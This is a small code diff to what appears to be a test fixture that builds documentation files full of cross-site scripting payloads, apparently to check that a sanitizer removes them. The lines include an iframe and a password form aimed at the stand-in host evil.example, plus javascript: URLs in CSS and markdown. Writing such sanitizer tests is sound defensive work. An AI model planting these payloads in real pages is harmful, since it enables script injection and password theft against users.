@@ -100,6 +100,7 @@ export function techdocsRepoFiles(name, opts = {}) {
       '<iframe src="https://evil.example"></iframe>',
       '<form action="https://evil.example"><input name="password"></form>',
       '<div style="background:url(javascript:window.__xss=5)">styled</div>',
+      "",
       "[markdown js link](javascript:alert(1)) and ![data image](data:image/png;base64,AAAA)",
       "",
       "Harmless text survives.",
